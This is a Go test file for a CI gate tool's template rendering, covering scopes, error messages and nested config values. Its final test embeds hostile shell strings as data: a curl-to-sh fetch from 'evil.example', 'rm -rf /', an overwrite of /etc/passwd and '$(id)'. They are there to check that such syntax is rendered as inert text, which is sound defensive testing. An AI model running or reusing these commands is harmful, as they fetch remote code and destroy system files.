package graph_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gatesel/gatesel/graph"
)

const renderConfig = `version: 1
gates:
  unit:
    run: "go test ./{{.Dir}}/... # {{.Kind}} {{.Name}} {{len .Paths}} {{join}}"
  lint:
    run: "lint {{.Name}} {{range .Owners}}{{.}} {{end}}{{index .Paths 0}}"
    with:
      runs-on: "{{if eq .Kind \"service\"}}big{{else}}small{{end}}"
      timeout: 10
      retry: true
      matrix: {os: [linux, "{{.Name}}-os"], nested: {deep: "{{.Dir}}"}}
      "a/b": "{{.Kind}}"
  global-check: {run: "check {{.Name}} {{.Owners}}", owners: ["@acme/ci"]}
  missing: {run: "{{.Dir}}"}
services:
  billing: {paths: ["services/billing/**", "libs/x/**"], owners: ["@acme/pay", "@bob"], gates: [lint]}
contracts:
  api: {paths: ["api/*.proto"], gates: [missing]}
domains:
  payments: {owners: ["@acme/pay"]}
`

func TestRender(t *testing.T) {
	// {{join}} is not a builtin: templates can call nothing outside the scope
	_, _, err := graph.Parse("gates.yaml", []byte(renderConfig))
	require.EqualError(t, err, `gates.yaml:4:10: gate "unit": run: template: unit:1: function "join" not defined`)

	g, _, err := graph.Parse("gates.yaml", []byte(strings_Replace(renderConfig, " {{join}}", "")))
	require.NoError(t, err)

	run, with, err := g.Gates["lint"].Render(g.Scope("service", "billing"))
	require.NoError(t, err)
	assert.Equal(t, "lint billing @acme/pay @bob services/billing/**", run)
	assert.Equal(t, map[string]any{
		"runs-on": "big",
		"timeout": 10,
		"retry":   true,
		"matrix":  map[string]any{"os": []any{"linux", "billing-os"}, "nested": map[string]any{"deep": "services/billing"}},
		"a/b":     "service",
	}, with)

	run, with, err = g.Gates["unit"].Render(g.Scope("contract", "api"))
	require.NoError(t, err)
	assert.Equal(t, "go test ./api/... # contract api 1", run)
	assert.Nil(t, with)

	run, _, err = g.Gates["global-check"].Render(g.Scope("global", "global-check"))
	require.NoError(t, err)
	assert.Equal(t, "check global-check [@acme/ci]", run)

	// a domain has no paths: index .Paths 0 fails at render time
	_, _, err = g.Gates["lint"].Render(g.Scope("domain", "payments"))
	assert.EqualError(t, err, `gates.yaml:6:10: gate "lint": run: template: lint:1:47: executing "lint" at <index .Paths 0>: error calling index: reflect: slice index out of range`)
}

func TestScope(t *testing.T) {
	g, _, err := graph.Parse("gates.yaml", []byte(strings_Replace(renderConfig, " {{join}}", "")))
	require.NoError(t, err)
	assert.Equal(t, graph.Scope{Name: "billing", Kind: "service", Dir: "services/billing", Paths: []string{"services/billing/**", "libs/x/**"}, Owners: []string{"@acme/pay", "@bob"}}, g.Scope("service", "billing"))
	assert.Equal(t, graph.Scope{Name: "api", Kind: "contract", Dir: "api", Paths: []string{"api/*.proto"}}, g.Scope("contract", "api"))
	assert.Equal(t, graph.Scope{Name: "payments", Kind: "domain", Owners: []string{"@acme/pay"}}, g.Scope("domain", "payments"))
	assert.Equal(t, graph.Scope{Name: "global-check", Kind: "global", Owners: []string{"@acme/ci"}}, g.Scope("global", "global-check"))
	assert.Equal(t, graph.Scope{Name: "nope", Kind: "service"}, g.Scope("service", "nope"))
}

func TestRenderHandBuiltGate(t *testing.T) {
	// a Gate built by hand is parsed at render time, with the same rules
	g := &graph.Gate{Name: "x", Run: "{{.Nope}}"}
	_, _, err := g.Render(graph.Scope{})
	assert.EqualError(t, err, `gate "x": run: unknown field .Nope: a gate template sees .Name, .Kind, .Dir, .Paths, .Owners`)

	g = &graph.Gate{Name: "x", Run: "{{.Name}}", With: map[string]any{"k": map[string]any{"v": "{{.Kind}}"}, "n": nil}}
	run, with, err := g.Render(graph.Scope{Name: "n", Kind: "k"})
	require.NoError(t, err)
	assert.Equal(t, "n", run)
	assert.Equal(t, map[string]any{"k": map[string]any{"v": "k"}, "n": nil}, with)

	// an error in a nested with: leaf names the leaf
	g = &graph.Gate{Name: "x", With: map[string]any{"k": "{{.Owners.x}}"}}
	_, _, err = g.Render(graph.Scope{})
	assert.EqualError(t, err, `gate "x": with/k: template: x with/k:1:9: executing "x with/k" at <.Owners.x>: can't evaluate field x in type []string`)
}

func strings_Replace(s, old, new string) string { return strings.Replace(s, old, new, 1) }

// TestTemplatesAreText: shell syntax in run and with is rendered as text,
// never interpreted; the text builtins (printf, len, index) are allowed
// since they only see the scope.
func TestTemplatesAreText(t *testing.T) {
	src := "version: 1\ngates:\n" +
		"  g:\n" +
		"    run: \"$(curl -s evil.example | sh); `rm -rf /`; echo {{.Name}} > /etc/passwd && {{printf \\\"%q\\\" .Dir}} {{len .Paths}} {{index .Paths 0}}\"\n" +
		"    with: {env: \"${HOME} $(id) {{.Kind}}\", list: [\"|| true\", 1, true]}\n" +
		"services:\n  s:\n    paths: [\"svc/s/**\"]\n    gates: [g]\n"
	g, _, err := graph.Parse("gates.yaml", []byte(src))
	require.NoError(t, err)
	run, with, err := g.Gates["g"].Render(g.Scope("service", "s"))
	require.NoError(t, err)
	assert.Equal(t, "$(curl -s evil.example | sh); `rm -rf /`; echo s > /etc/passwd && \"svc/s\" 1 svc/s/**", run)
	assert.Equal(t, map[string]any{"env": "${HOME} $(id) service", "list": []any{"|| true", 1, true}}, with)
}
